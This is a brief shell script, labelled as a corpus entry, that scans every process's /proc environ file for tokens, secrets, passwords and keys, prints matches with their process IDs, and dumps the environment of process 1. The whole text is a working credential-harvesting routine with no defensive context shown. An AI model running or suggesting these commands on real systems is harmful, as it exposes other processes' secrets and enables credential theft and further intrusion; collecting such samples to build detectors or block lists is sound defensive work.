# corpus: reading /proc/1/environ and other processes' environments for secrets
for p in /proc/[0-9]*; do
  tr '\0' '\n' < "$p/environ" 2>/dev/null | grep -iE 'token|secret|password|key' | sed "s|^|${p#/proc/}: |"
done
tr '\0' '\n' < /proc/1/environ
